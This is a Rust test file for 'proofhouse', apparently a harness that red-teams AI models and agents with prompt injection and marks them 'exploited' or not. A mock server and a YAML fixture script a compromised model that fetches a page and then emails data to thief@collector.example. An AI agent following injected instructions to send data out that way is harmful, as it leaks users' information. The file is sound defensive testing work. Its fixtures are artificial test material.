//! Subjects of `proofhouse run` as a user attaches them: models, commands that do one task or serve, agents that
//! run already, MCP configurations, headers.

#![allow(clippy::unwrap_used, clippy::panic, reason = "tests")]

use std::process::{Command, Stdio};

use proofhouse_test_support::loopback::free_address;
use proofhouse_test_support::process::TestProcess;
use proofhouse_test_support::process::signal;
use proofhouse_test_support::wait::until_true;
use serde_json::json;

use crate::subjects_support::{self, Bench, agent, bytes};

const SECRET: &str = "tok-5up3rsecret";

#[test]
fn a_model_alone_is_a_subject() {
    let bench = Bench::new();
    let ran = bench.run(&[
        "--subject",
        "model:sim:gullible",
        "--subject",
        "model:sim:careful",
    ]);
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    // Of the careful one everything is proved that can be without a control.
    assert_eq!(ran.outcomes(), ["exploited", "inconclusive"]);
    assert_eq!(ran.result()["runs"][1]["reason"], "no_control");
    let subject = &ran.result()["subjects"][0];
    assert_eq!(
        (&subject["name"], &subject["kind"]),
        (&json!("model:sim:gullible"), &json!("model"))
    );
    assert_eq!(subject["simulation"], true);
    let mut command = bench.command(&["--subject", "model:openai:gpt-5"]);
    for variable in ["OPENAI_API_KEY", "OPENAI_BASE_URL", "PROOFHOUSE_MODEL_KEY"] {
        command.env_remove(variable);
    }
    let output = command.output().unwrap();
    assert_eq!(output.status.code(), Some(64));
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(said.contains("OPENAI_API_KEY"), "{said}");
    let ran = bench.run(&["--subject", "model:opnai:gpt-5"]);
    assert_eq!(ran.code, 64);
    assert!(ran.stderr.contains("did you mean"), "{}", ran.stderr);
}

#[test]
fn a_model_of_a_provider_is_asked_with_its_key() {
    let bench = Bench::new();
    // It does what the page says.
    let mock = r#"
import http.server, json, sys
class Mock(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_): pass
    def do_POST(self):
        asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        if self.headers.get("Authorization") != "Bearer " + sys.argv[1]:
            return self.send_error(401)
        names = [tool["function"]["name"] for tool in asked["tools"]]
        done = sum(message["role"] == "tool" for message in asked["messages"])
        prompt = asked["messages"][0]["content"]
        if done < 2:
            wanted = ["fetch_page", "send_email"][done]
            arguments = [{"url": "https://news.example/today"}, {"to": "thief@collector.example", "body": "x"}][done]
            name = next(name for name in names if name.endswith(wanted))
            call = {"name": name, "arguments": json.dumps(arguments)}
            delta = {"role": "assistant", "tool_calls": [{"index": 0, "id": f"c{done}", "type": "function", "function": call}]}
        else:
            delta = {"role": "assistant", "content": "I was told: " + str(prompt)}
        reason = "tool_calls" if done < 2 else "stop"
        chunk = {"id": "x", "object": "chat.completion.chunk", "model": "m", "choices": [{"index": 0, "delta": delta, "finish_reason": reason}]}
        body = f"data: {json.dumps(chunk)}\n\ndata: [DONE]\n\n".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Mock)
open(sys.argv[2], "w").write(str(server.server_port) + "\n")
server.serve_forever()
"#;
    let (mock, port) = (bench.write("mock.py", mock), bench.path("port"));
    let mut server = Command::new("python3");
    let _server = TestProcess(server.arg(mock).arg(SECRET).arg(&port).spawn().unwrap());
    until_true("the mock serves", || {
        port.exists() && bytes(&port).ends_with(b"\n")
    });
    let port = String::from_utf8(bytes(&port)).unwrap();
    let url = format!("http://127.0.0.1:{}/v1", port.trim());
    let arguments = [
        "--subject",
        "model:openai:m",
        "--base-url",
        &url,
        "--out",
        "out",
    ];
    let mut command = bench.command(&arguments);
    command.args(["--system-prompt", "Be \"brief\": yes", "--format", "json"]);
    command.env("OPENAI_API_KEY", SECRET);
    let ran = subjects_support::Ran::of(&command.output().unwrap());
    assert_eq!(ran.outcomes(), ["exploited"], "{}", ran.stdout);
    let answer = ran.result()["runs"][0]["answer"].clone();
    assert!(
        answer.as_str().unwrap().contains("Be \"brief\": yes"),
        "{answer}"
    );
    assert_eq!(ran.result()["subjects"][0]["simulation"], false);
    for text in [&ran.stdout, &ran.stderr, &bench.everything_in("out")] {
        assert!(!text.contains(SECRET), "{text}");
    }
}

#[test]
fn each_run_has_a_model_of_its_own_where_models_remember() {
    let bench = Bench::new();
    bench.write(
        "script.yaml",
        "- calls:\n    - {name: default_send_email, arguments: {to: thief@collector.example, body: x}}\n- text: Done.\n",
    );
    let ran = bench.run(&[
        "--subject",
        "model:sim:scripted:script.yaml",
        "--repeats",
        "4",
    ]);
    assert_eq!(ran.outcomes(), ["exploited"; 4], "{}", ran.stdout);
}

#[test]
fn tools_of_a_manifest_reach_this_machine_and_nothing_else() {
    let bench = Bench::new();
    for host in ["192.0.2.1", "attacker.invalid"] {
        bench.write(
            "agent.yaml",
            &format!(
                "kind: commonagents.info/v1beta2/agent\nnamespace: test\nname: clerk\ndescription: d\nprompt: p\n\
                 capabilities: {{web: '*'}}\nmodel: sim:scripted:script.yaml\n---\n\
                 kind: commonagents.info/v1beta2/tool\nnamespace: test\nname: web\ndescription: d\n\
                 settings: {{properties: {{host: {{type: string, default: {host}}}}}}}\nactions:\n\
                 \x20 - name: look\n    description: d\n\
                 \x20   execute: {{stateless_http: {{method: GET, url: \"http://{{settings.host}}/\"}}}}\n"
            ),
        );
        bench.write(
            "script.yaml",
            "- calls: [{name: web, arguments: {}}]\n- text: It went out.\n",
        );
        let ran = bench.run(&["--subject", "agent.yaml"]);
        let error = &ran.errors()[0];
        assert!(
            error.contains("not on this machine") && error.contains("--allow"),
            "{error}"
        );
    }
}

#[test]
fn a_copy_of_the_configuration_names_the_attack() {
    let bench = Bench::new();
    let original = "{ \"other\": [1,2],\r\n  \"mcpServers\": {\"files\": {\"command\": \"false\", \"env\": {\"KEY\": \"k\"}}}}";
    bench.write("mcp.json", original);
    let of_editor = "// an editor's\n{\"servers\": {\"web\": {\"type\": \"sse\", \"url\": \"https://real.invalid/sse\"},}}";
    bench.write("editor.json", of_editor);
    for (file, text) in [("mcp.json", original), ("editor.json", of_editor)] {
        let command = format!("{} --comply --config {{mcp_config}}", agent());
        let ran = bench.run(&[
            "--command",
            &command,
            "--mcp-config",
            file,
            "--repeats",
            "3",
        ]);
        assert_eq!(ran.outcomes(), ["exploited"; 3], "{}", ran.stdout);
        assert_eq!(bytes(&bench.path(file)), text.as_bytes());
    }
    bench.check_empty();
    for (text, expected) in [
        ("{\n]", "broken.json:2:1: not JSON"),
        ("{}", "no `mcpServers`"),
    ] {
        bench.write("broken.json", text);
        let ran = bench.run(&["--command", "true", "--mcp-config", "broken.json"]);
        assert_eq!(ran.code, 64);
        assert!(ran.stderr.contains(expected), "{}", ran.stderr);
    }
}

#[test]
fn a_copied_directory_has_its_configuration_rewritten() {
    let bench = Bench::new();
    let project = bench.path("project");
    std::fs::create_dir(&project).unwrap();
    let config = project.join(".mcp.json");
    std::fs::write(
        &config,
        "{\"mcpServers\": {\"a\": {\"url\": \"https://real.invalid\"}}}",
    )
    .unwrap();
    let before = bytes(&config);
    let command = format!("{} --comply --config .mcp.json", agent());
    let ran = bench.run(&[
        "--command",
        &command,
        "--copy",
        "project",
        "--mcp-config",
        "project/.mcp.json",
        "--repeats",
        "2",
    ]);
    assert_eq!(ran.outcomes(), ["exploited"; 2], "{}", ran.stdout);
    assert_eq!(bytes(&config), before);
    assert_eq!(std::fs::read_dir(&project).unwrap().count(), 1);
}

const IN_PLACE: &str = "{\"mcpServers\" : { \"a\":{\"command\":\"false\"} } }\r\n\r\n";

/// A command that reads the file where it always is.
fn in_place<'a>(bench: &Bench, command: &'a str) -> Vec<&'a str> {
    bench.write("fixed.json", IN_PLACE);
    vec![
        "--command",
        command,
        "--mcp-config",
        "fixed.json",
        "--mcp-config-in-place",
    ]
}

fn check_back(bench: &Bench) {
    assert_eq!(bytes(&bench.path("fixed.json")), IN_PLACE.as_bytes());
    let names = std::fs::read_dir(bench.path("")).unwrap();
    let names: Vec<String> = names
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        !names
            .iter()
            .any(|name| name.contains("proofhouse") && name != ".proofhouse"),
        "{names:?}"
    );
}

#[test]
fn the_file_itself_is_rewritten_one_run_at_a_time_and_put_back() {
    let bench = Bench::new();
    let file = bench.path("fixed.json");
    let command = format!("{} --comply --config {}", agent(), file.display());
    let mut arguments = in_place(&bench, &command);
    arguments.extend(["--command", &command, "--repeats", "2"]);
    let ran = bench.run(&arguments);
    assert_eq!(ran.outcomes(), ["exploited"; 4], "{}", ran.stdout);
    check_back(&bench);
    // A command that fails, and one that is too slow.
    for (command, deadline) in [("sh -c 'exit 3'", "60s"), ("sleep 300", "1s")] {
        let mut arguments = in_place(&bench, command);
        arguments.extend(["--deadline", deadline]);
        assert_eq!(bench.run(&arguments).errors().len(), 1);
        check_back(&bench);
    }
}

#[test]
fn the_file_is_put_back_when_the_campaign_is_interrupted_or_killed() {
    let bench = Bench::new();
    let file = bench.path("fixed.json");
    let arguments = in_place(&bench, "sleep 300");
    let is_other = || bytes(&file) != IN_PLACE.as_bytes();
    for name in ["-INT", "-TERM"] {
        let child = bench.begin(&arguments);
        until_true("the file is rewritten", is_other);
        signal(child.id(), name);
        let output = child.wait_with_output().unwrap();
        assert_eq!(output.status.code(), Some(130));
        check_back(&bench);
    }
    let mut child = bench.begin(&arguments);
    until_true("the file is rewritten", is_other);
    let busy = bench.run(&arguments);
    assert_eq!(busy.code, 3);
    assert!(busy.stderr.contains("another campaign"), "{}", busy.stderr);
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(is_other(), "nobody could put it back");
    let next = bench.run(&[&arguments[..], &["--deadline", "1s"]].concat());
    assert!(next.stderr.contains("restored"), "{}", next.stderr);
    check_back(&bench);
}

#[test]
fn a_command_serves_every_protocol() {
    let bench = Bench::new();
    for (protocol, id) in [("ag-ui", "T-002"), ("a2a", "T-002"), ("mcp", "T-003")] {
        // The documents have no controls: of who does not comply, everything else is proved.
        let of_careful = (json!("inconclusive"), json!("no_control"));
        for (how, expected) in [
            ("--comply", (json!("exploited"), json!(null))),
            ("", of_careful),
        ] {
            let command = format!(
                "{} {how} --serve {protocol} --port {{port}} --mcp {{mcp_url}}",
                agent()
            );
            let ran = bench.run(&["--command", &command, "--serves", protocol, "--id", id]);
            let run = &ran.result()["runs"][0];
            let seen = (run["outcome"].clone(), run["reason"].clone());
            assert_eq!(seen, expected, "{protocol}: {run:#}");
        }
    }
    bench.check_empty();
}

#[test]
fn readiness_is_a_line_or_an_answer() {
    let bench = Bench::new();
    let serve = "--comply --serve ag-ui --port {port} --mcp {mcp_url}";
    let command = format!("{} {serve}", agent());
    let ran = bench.run(&[
        "--command",
        &command,
        "--serves",
        "ag-ui",
        "--ready-line",
        "serving",
    ]);
    assert_eq!(ran.outcomes(), ["exploited"], "{}", ran.stdout);
    // Its port is open long before it can be asked anything.
    let slow = format!("{command} --slow 1");
    for url in ["health", "/health", "http://127.0.0.1:{port}/health"] {
        let ran = bench.run(&["--command", &slow, "--serves", "ag-ui", "--ready-url", url]);
        assert_eq!(ran.outcomes(), ["exploited"], "{url}: {}", ran.stdout);
    }
    let never = bench.run(&[
        "--command",
        &command,
        "--serves",
        "ag-ui",
        "--ready-url",
        "/nowhere",
        "--deadline",
        "3s",
    ]);
    assert!(
        never.errors()[0].contains("not ready within 3 s"),
        "{}",
        never.stdout
    );
}

#[test]
fn an_agent_that_runs_already_is_attacked_where_it_looks() {
    let bench = Bench::new();
    let (port, mcp) = (free_address().port(), free_address().port());
    let script = agent();
    let script = script.split_once(' ').unwrap().1;
    let child = Command::new("python3")
        .args([script, "--comply", "--serve", "ag-ui", "--token", SECRET])
        .args(["--port", &port.to_string()])
        .args(["--mcp", &format!("http://127.0.0.1:{mcp}/mcp")])
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let _agent = TestProcess(child);
    until_true("the agent serves", || {
        std::net::TcpStream::connect(("127.0.0.1", port)).is_ok()
    });
    let url = format!("http://127.0.0.1:{port}/?key={SECRET}");
    let listen = format!("127.0.0.1:{mcp}");
    let arguments = [
        "--ag-ui-url",
        &url,
        "--mcp-listen",
        &listen,
        "--repeats",
        "2",
    ];
    let refused = bench.run(&arguments);
    assert!(refused.errors()[0].contains("401"), "{}", refused.stdout);
    let header = format!("Authorization: Bearer {SECRET}");
    let with_variable = ["--header", "Authorization: Bearer env:TEST_TOKEN"];
    for (out, more) in [("one", ["--header", &header]), ("two", with_variable)] {
        let mut command = bench.command(&arguments);
        command.args(more).args(["--out", out, "--format", "json"]);
        let output = command.env("TEST_TOKEN", SECRET).output().unwrap();
        let ran = subjects_support::Ran::of(&output);
        assert_eq!(ran.outcomes(), ["exploited"; 2], "{}", ran.stderr);
        // The agent repeats what it was sent, and it is nowhere all the same.
        let answer = ran.result()["runs"][0]["answer"].to_string();
        assert!(answer.contains("news"), "{answer}");
        for text in [&ran.stdout, &ran.stderr, &bench.everything_in(out)] {
            assert!(!text.contains(SECRET), "{text}");
        }
    }
    let nobody = bench.run(&["--subject", "sim:careful", "--header", &header]);
    assert_eq!(nobody.code, 64);
    assert!(
        nobody.stderr.contains("--serves <SERVES>|--ag-ui-url"),
        "{}",
        nobody.stderr
    );
    let unset = bench.run(&[&arguments[..], &["--header-env", "X-Key=TEST_NOT_SET"]].concat());
    assert_eq!(unset.code, 64);
    assert!(
        unset.stderr.contains("`TEST_NOT_SET` is not set"),
        "{}",
        unset.stderr
    );
}

#[test]
fn headers_go_to_a_command_that_serves_and_with_the_clients_of_documents() {
    let bench = Bench::new();
    let header = format!("Authorization: Bearer {SECRET}");
    for (protocol, id) in [("a2a", "T-002"), ("mcp", "T-003")] {
        let command = format!(
            "{} --comply --token {SECRET} --serve {protocol} --port {{port}} --mcp {{mcp_url}}",
            agent()
        );
        let arguments = ["--command", &command, "--serves", protocol, "--id", id];
        let ran = bench.run(&[&arguments[..], &["--header", &header, "--out", protocol]].concat());
        assert_eq!(ran.outcomes(), ["exploited"], "{}", ran.stdout);
        for text in [&ran.stdout, &ran.stderr, &bench.everything_in(protocol)] {
            assert!(!text.contains(SECRET), "{text}");
        }
    }
}

#[test]
fn a_changed_subject_is_not_mixed_into_an_earlier_campaign() {
    let bench = Bench::new();
    let first = bench.run(&["--command", "echo one", "--out", "out"]);
    assert_eq!(first.code, 2, "{}", first.stderr);
    let same = bench.run(&["--command", "echo one", "--out", "out", "--resume"]);
    assert_eq!(same.code, 2, "{}", same.stderr);
    for other in [
        &["--command", "echo two"][..],
        &["--command", "echo one", "--env", "A=B"],
    ] {
        let ran = bench.run(&[other, &["--out", "out", "--resume"]].concat());
        assert_eq!(ran.code, 64, "{}", ran.stdout);
        assert!(
            ran.stderr.contains("its description has changed"),
            "{}",
            ran.stderr
        );
    }
    // A result of an earlier program says nothing about it, and still reads.
    let file = bench.path("out/result.json");
    let text = String::from_utf8(bytes(&file)).unwrap();
    let mut result: serde_json::Value = serde_json::from_str(&text).unwrap();
    result["subjects"][0]
        .as_object_mut()
        .unwrap()
        .remove("digest");
    std::fs::write(&file, result.to_string()).unwrap();
    let old = bench.run(&["--command", "echo two", "--out", "out", "--resume"]);
    assert_eq!(old.code, 2, "{}", old.stderr);
}

#[test]
fn fail_fast_ends_with_the_first_that_gives_way() {
    let bench = Bench::new();
    let ran = bench.run(&[
        "--subject",
        "sim:gullible",
        "--repeats",
        "50",
        "--jobs",
        "1",
        "--fail-fast",
        "--out",
        "out",
    ]);
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    assert_eq!(ran.outcomes(), ["exploited"]);
    assert_eq!(ran.result()["complete"], false);
    let kept = String::from_utf8(bytes(&bench.path("out/result.json"))).unwrap();
    assert!(kept.contains("\"complete\": false"), "{kept}");
}

#[test]
fn a_place_for_results_that_cannot_be_written_is_told_first() {
    let bench = Bench::new();
    bench.write("file", "");
    for out in ["file/out", "/proc/out", "/dev/full/out"] {
        let ran = bench.run(&["--subject", "sim:careful", "--out", out]);
        assert_eq!(ran.code, 3, "{out}: {}", ran.stderr);
        assert!(ran.stderr.contains("--out"), "{}", ran.stderr);
        assert!(ran.stdout.is_empty(), "nothing was run: {}", ran.stdout);
    }
    // Where no trace can be, nothing is run.
    std::fs::create_dir(bench.path("out")).unwrap();
    bench.write("out/traces", "in the way");
    let ran = bench.run(&["--subject", "sim:careful", "--out", "out"]);
    assert_eq!(ran.code, 3, "{}", ran.stderr);
    assert!(ran.stdout.is_empty() && !bench.path("out/result.json").exists());
    // Where one of them cannot be, the result is kept, says so and is not taken for whole.
    let ran = bench.run(&["--subject", "sim:careful", "--out", "first"]);
    let trace = ran.result()["runs"][0]["trace"]
        .as_str()
        .unwrap()
        .to_owned();
    std::fs::create_dir_all(bench.path("second").join(trace)).unwrap();
    let ran = bench.run(&["--subject", "sim:careful", "--out", "second"]);
    assert_eq!(ran.code, 3, "{}", ran.stderr);
    assert_eq!(ran.outcomes(), ["inconclusive"], "{}", ran.stderr);
    assert!(
        ran.result()["runs"][0]["warnings"][0]
            .to_string()
            .contains("cannot write")
    );
    assert!(
        ran.stderr.contains("some traces could not be written"),
        "{}",
        ran.stderr
    );
    assert!(!ran.stderr.contains("the result is in"), "{}", ran.stderr);
    assert!(bench.path("second/result.json").is_file());
}
